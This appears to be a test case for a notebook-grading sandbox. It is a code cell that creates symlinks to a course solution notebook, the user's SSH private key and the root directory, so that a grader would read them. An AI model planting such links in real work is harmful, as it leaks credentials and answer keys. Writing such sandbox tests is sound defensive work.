# about = "leaves links in its folder for the grader to read"
# carries = ["solution", "home"]
# without_sandbox = "holds"
# %% last
import os

for name, target in (
    ("00_start_here.ipynb", "@COURSE@/solutions/00_start_here/00_start_here.ipynb"),
    ("mine.txt", "@HOME@/.ssh/id_ed25519"),
    ("all", "/"),
):
    try:
        os.symlink(target, name)
    except OSError:
        pass
